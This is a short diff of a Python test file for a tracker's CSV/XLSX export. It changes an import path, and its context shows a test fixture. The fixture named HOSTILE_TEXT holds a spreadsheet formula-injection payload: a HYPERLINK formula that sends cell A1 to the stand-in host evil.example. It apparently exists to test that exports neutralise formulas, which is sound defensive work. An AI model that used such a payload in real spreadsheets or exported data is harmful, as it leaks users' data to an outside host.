@@ -16,7 +16,7 @@ from shapely.geometry import LineString
 from tests.factories import make_project
 from tracker.fields import FIELDS
 from tracker.formats.tables import FORMULA_STARTS, records_to_csv, to_csv, to_xlsx
-from tracker.services import transaction
+from tracker.services.base import transaction
 
 HOSTILE_TEXT = {
     "name_vi": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")",
